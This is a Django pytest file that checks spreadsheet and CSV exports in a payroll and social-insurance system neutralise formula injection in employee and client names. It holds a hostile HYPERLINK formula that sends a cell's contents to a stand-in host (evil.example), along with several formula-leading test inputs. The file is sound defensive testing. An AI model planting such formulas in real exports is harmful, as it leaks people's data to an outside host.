"""Formula injection (issue #23): names are typed by people we do not control; every spreadsheet
export must deliver them as inert text. The attack: an employee named `=HYPERLINK(…)` stayed a
formula in the fee statement XLSX the client opens (the payroll export escaped, this did not).

Every export is built by hrsaas/exports.py; this file checks each export route with hostile
names, and keeps spreadsheet writers out of every other module."""
from __future__ import annotations

import csv
import io
import pathlib
import re
from decimal import Decimal

import pytest
from django.test import Client as WebClient
from openpyxl import load_workbook

from hrsaas.exports import FORMULA_STARTS, csv_bytes, safe_cell
from social_insurance import services as si_services
from social_insurance.models import FeeStatement
from tests.commissions.conftest import drain, open_client, people  # noqa: F401 — `people` is a fixture
from tests.conftest import in_branch
from tests.factories import make_user
from tests.social_insurance.helpers import add_employee, make_client

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
FULL_WIDTH = "＝1+1"
ROOT = pathlib.Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("raw, inert", [
    ("=1+1", "'=1+1"), ("+1+cmd", "'+1+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝1+1", "'＝1+1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠x", "'＠x"),
    ("张三", "张三"), ("a=b", "a=b"), ("", ""), ("-5.00", "-5.00"), ("+1,200.50", "+1,200.50"),
])
def test_the_one_helper_escapes_text_that_would_run(raw, inert):
    assert safe_cell(raw) == inert


def test_numbers_dates_and_empty_cells_stay_typed():
    import datetime as dt

    for value in (Decimal("-5.00"), -3, 2.5, dt.date(2026, 3, 1), None, True):
        assert safe_cell(value) is value
    assert csv_bytes([["=1", Decimal("-5.00"), 7]]).decode("utf-8-sig") == "'=1,-5.00,7\r\n"


def _inert(value) -> bool:
    return not (isinstance(value, str) and value.startswith(FORMULA_STARTS))


def _xlsx_cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells), "no cell of an export may be a formula"
    return [c.value for c in cells]


def _csv_cells(content: bytes) -> list:
    return [v for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for v in row]


def test_every_export_writes_hostile_names_as_inert_text(api, people):  # noqa: F811
    # Given: a specialist named with a formula earns in a closed period (payroll files), and an
    # insured employee named with a formula (full-width too) is on a client's fee statement.
    people["bj_s1"].display_name = HOSTILE
    people["bj_s1"].save()
    open_client(api, people["bj_staff"], opened_by="bj_s1")
    drain("bj")
    assert api(people["bj_manager"]).post("/b/bj/api/v1/periods/2026-03/close/").status_code == 200
    staff = people["bj_staff"]
    with in_branch("bj"):
        company = make_client("+北京甲公司", staff)
        add_employee(company, 1, "9000", "2025-06-10", actor=staff, name=HOSTILE)
        add_employee(company, 2, "9000", "2025-06-10", actor=staff, name=FULL_WIDTH)
        si_services.month_compute(actor=staff, period="2025-08")
        statement = FeeStatement.objects.get(period="2025-08", client=company)
    finance = make_user("esc_fin", (None, "hq_finance"))

    exports = [  # (who downloads, url, format, the hostile texts that must appear escaped)
        (finance, "/commissions/payroll/2026-03/csv/", "csv", [HOSTILE]),
        (finance, "/commissions/payroll/2026-03/xlsx/", "xlsx", [HOSTILE]),
        (finance, "/commissions/payroll/2026-03/bj/csv/", "csv", [HOSTILE]),
        (finance, "/commissions/payroll/2026-03/bj/xlsx/", "xlsx", [HOSTILE]),
        (staff, f"/b/bj/si/statements/{statement.pk}/?format=xlsx", "xlsx", [HOSTILE, FULL_WIDTH]),
        # 欠费账龄: the client's name leads each of its rows.
        (staff, "/b/bj/si/arrears/?format=csv", "csv", ["+北京甲公司"]),
        (staff, "/b/bj/si/arrears/?format=xlsx", "xlsx", ["+北京甲公司"]),
    ]
    checked = 0
    for user, url, fmt, hostile in exports:
        web = WebClient()
        web.force_login(user)

        response = web.get(url)

        assert response.status_code == 200, url
        assert "attachment" in response["Content-Disposition"]
        cells = _xlsx_cells(response.content) if fmt == "xlsx" else _csv_cells(response.content)
        assert all(_inert(v) for v in cells), url
        for text in hostile:
            assert "'" + text in cells, (url, text)
        checked += 1
    assert checked == 7


def test_spreadsheets_are_written_only_by_the_export_helper():
    """A new export cannot forget the escaping: openpyxl's Workbook and csv writers are used in
    hrsaas/exports.py only (tests and benchmarks aside)."""
    writer = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(")
    scanned, offenders = 0, []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith((".venv/", "tests/", "bench/", "node_modules/")) or "/migrations/" in rel:
            continue
        scanned += 1
        if rel != "hrsaas/exports.py" and writer.search(path.read_text(encoding="utf-8")):
            offenders.append(rel)
    assert scanned > 50
    assert offenders == []
